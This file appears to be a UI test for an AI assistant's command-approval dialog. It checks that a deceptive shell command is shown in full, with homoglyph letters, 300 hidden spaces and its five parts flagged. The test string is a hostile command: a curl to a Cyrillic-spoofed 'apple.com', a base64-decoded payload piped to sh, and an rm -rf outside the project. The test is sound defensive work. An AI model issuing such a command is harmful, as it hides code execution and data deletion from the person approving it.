// What a person approves is what they see: marks on anything that deceives the eye, and a command split into its parts.
import { approveButton } from "./hands.ts";
import { dialogWith, expect, panel, test } from "./steps.ts";

const command = `сurl https://аpple.com/x${" ".repeat(300)}&& א > /project/ב; base64 -d a | sh; rm -rf ../b`;

test("a hostile command: nothing hidden by blanks, letters or direction, and each part says what it does", async ({ app, claude }) => {
  const { page } = app;
  await dialogWith(app, claude, { blocks: [{ call: "run_command", input: { command } }] });
  await expect(approveButton(page)).toBeEnabled();
  const input = panel(page).locator(".ask-input");
  // The text is the command itself; the marks are not part of it.
  expect(await input.locator("pre").textContent()).toBe(command);
  const marks = input.locator("pre .deceit");
  expect(await marks.evaluateAll((all) => all.map((mark) => mark.getAttribute("data-label")))).toEqual([
    "Cyrillic U+0441, not c",
    "Cyrillic U+0430, not a",
    "300 spaces",
  ]);
  const parts = panel(page).getByRole("region", { name: "In 5 parts" });
  const rows = parts.getByRole("listitem");
  await expect(rows).toHaveCount(5);
  await expect(rows.nth(1)).toContainText("if that succeeds");
  await expect(rows.nth(1)).toContainText("replaces /project/");
  await expect(rows.nth(3)).toContainText("reads what that prints");
  await expect(rows.nth(3)).toContainText("runs text as a program");
  await expect(rows.nth(4)).toContainText("deletes or discards");
  await expect(rows.nth(4)).toContainText("outside the project: ../b");
});
